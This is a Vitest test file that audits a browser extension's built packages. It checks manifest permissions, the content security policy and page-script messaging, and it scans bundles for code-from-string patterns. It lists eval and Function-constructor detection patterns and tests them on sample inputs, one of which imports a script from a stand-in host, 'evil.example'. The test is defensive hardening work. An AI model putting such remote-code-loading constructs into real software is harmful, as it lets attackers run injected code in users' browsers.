import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { filesOf, manifestOf, PACKAGE_NAMES, pageScriptsOf, textOf } from './built.ts'

/** The first place that matches, with what stands around it: a whole bundle is no message. */
function found(text: string, pattern: RegExp): string | null {
  const at = text.search(pattern)
  return at < 0 ? null : text.slice(Math.max(0, at - 60), at + 100)
}

/** Ways to run a text, or a script from elsewhere. */
const FROM_STRINGS: readonly RegExp[] = [
  /\beval\s*\(/,
  // Under another name.
  /[=(,[]\s*["'`]?eval["'`]?\s*[,;)\]]/,
  /\bFunction\s*\(/,
  // The constructor under another name (`const F = Function`), as schema compilers use it.
  /[=(,]\s*Function\s*[,;)]/,
  // Every function leads to it.
  /\bconstructor["'`\]]*\s*\(\s*["'`]/,
  /\bset(?:Timeout|Interval)\s*\(\s*["'`]/,
  /\bimport\s*\(\s*["'`]https?:/,
  /importScripts/,
]

test.each([
  'eval("x")',
  '(0,eval)("x")',
  'globalThis["eval"]("x")',
  'let e=eval;e("x")',
  'new Function("x")',
  'let F=Function;new F("x")',
  'f.constructor("x")()',
  'f["constructor"]("x")()',
  'setTimeout("x",5)',
  'import("https://evil.example/x.js")',
  'importScripts(x)',
])('%s would be found', (code) => expect(FROM_STRINGS.some((way) => way.test(code))).toBe(true))

for (const name of PACKAGE_NAMES) {
  const scripts = () => filesOf(name).filter((file) => file.endsWith('.js'))

  test(`${name}: exactly the permissions that docs/permissions.md explains, no host at install but Texter`, () => {
    const manifest = manifestOf(name)
    const panel = name === 'chrome' ? ['sidePanel'] : []
    expect([...(Array.isArray(manifest.permissions) ? manifest.permissions : [])].sort()).toEqual(
      ['activeTab', 'alarms', 'contextMenus', 'scripting', 'storage', ...panel].sort(),
    )
    expect(manifest.host_permissions).toEqual(['https://*.texterchat.com/*'])
    expect(manifest.optional_host_permissions).toEqual(['https://*/*', 'http://*/*'])
    expect(manifest.incognito).toBe('not_allowed')
  })

  test(`${name}: pages cannot load our files, talk to us or know that we are there`, () => {
    const manifest = manifestOf(name)
    expect(manifest).not.toHaveProperty('web_accessible_resources')
    expect(manifest).not.toHaveProperty('externally_connectable')
    expect(manifest).not.toHaveProperty('content_scripts')
  })

  test(`${name}: the strict content security policy stands`, () => {
    // Written out here: compared with the code's own constant, a weaker one would pass.
    expect(manifestOf(name).content_security_policy).toEqual({
      extension_pages:
        "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self' https://*.texterchat.com; base-uri 'none'; form-action 'none'; frame-ancestors 'none'",
    })
  })

  test(`${name}: nothing else stands in the manifest than what is checked in`, () => {
    // A new key is a decision: it is added to that file by hand, and to the page of the docs that explains it.
    const { version: _version, key: _key, ...manifest } = manifestOf(name)
    const checked: unknown = JSON.parse(readFileSync(join(import.meta.dirname, 'manifests', `${name}.json`), 'utf8'))
    expect(manifest).toEqual(checked)
  })

  test(`${name}: no code from strings and no remote code`, () => {
    for (const file of scripts()) {
      const text = textOf(name, file)
      for (const way of FROM_STRINGS) expect(found(text, way), file).toBeNull()
    }
  })

  test(`${name}: no script of ours in a page says or hears a word by what the page can reach`, () => {
    const files = pageScriptsOf(name)
    expect(files).toEqual(
      expect.arrayContaining(['crm.js', 'frame-reader.js', 'picker.js', 'recipe-reader.js', 'sites/hubspot.js']),
    )
    for (const file of files) {
      const text = textOf(name, file)
      expect(found(text, /\bpostMessage\b|\bonmessage\b|addEventListener\(\s*["'`]message["'`]/), file).toBeNull()
      // Events of our own would have a name, which a page can listen for and send.
      expect(found(text, /\bCustomEvent\b|\bdispatchEvent\b|BroadcastChannel|wxt:/), file).toBeNull()
      expect(found(text, /\b(?:local|session)Storage\b|\bdocument\.cookie\b/), file).toBeNull()
    }
  })
}

test('firefox: the data that leaves the browser is declared', () => {
  expect(manifestOf('firefox').browser_specific_settings).toMatchObject({
    gecko: {
      strict_min_version: '153.0',
      data_collection_permissions: { required: ['personallyIdentifyingInfo', 'websiteContent', 'authenticationInfo'] },
    },
  })
})

test('chrome: minimum version and a stable key', () => {
  expect(manifestOf('chrome')).toMatchObject({ minimum_chrome_version: '140', key: expect.stringMatching(/^MII/) })
})
